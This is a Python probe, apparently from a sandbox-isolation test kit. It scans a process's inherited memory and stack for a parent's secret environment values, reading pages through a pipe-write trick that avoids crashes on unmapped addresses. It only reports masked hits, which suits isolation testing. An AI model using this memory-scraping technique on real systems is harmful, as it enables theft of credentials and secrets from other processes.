"""Scans all that it inherited in memory from those that forked it for the worker's secrets."""

import ctypes
import os

from attack_kit import HOST, MB, attempt, holds_masked, libc, reached, read_path

reader, writer = os.pipe()
PAGE = 4096


def readable(address: int) -> bytes:
    """A page of our memory; empty where there is none: write says EFAULT instead of a crash."""
    if libc.write(writer, ctypes.c_void_p(address), ctypes.c_size_t(PAGE)) != PAGE:
        return b""
    return os.read(reader, PAGE)


def regions() -> list[tuple[int, int]]:
    maps = attempt(read_path, "/proc/self/maps", 4 * MB)
    found = []
    for line in maps.decode().splitlines() if isinstance(maps, bytes) else ():
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " r" in line and "[v" not in line:
            found.append((start, end))
    return found


def look(data: bytes, where: str) -> None:
    if holds_masked(data, HOST["secret_env"], HOST["victim_marker"]):
        reached(f"a secret in inherited memory, {where}")


for start, end in regions():
    at = start
    while at < min(end, start + 512 * MB) and (page := readable(at)):
        size = min(8 * MB, end - at)
        look(ctypes.string_at(at, size) if readable(at + size - PAGE) else page, hex(at))
        at += size
# The stack: from one of our variables up to its end, where the first program's environment lies.
environ = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")
local = ctypes.cast(environ, ctypes.c_void_p).value or 0
for base in (local, environ[0] or 0):
    at, stack = base & ~(PAGE - 1), bytearray()  # bytes would be copied for each page
    while base and len(stack) < 16 * MB and (page := readable(at)):
        stack += page
        at += PAGE
    look(bytes(stack), "stack")
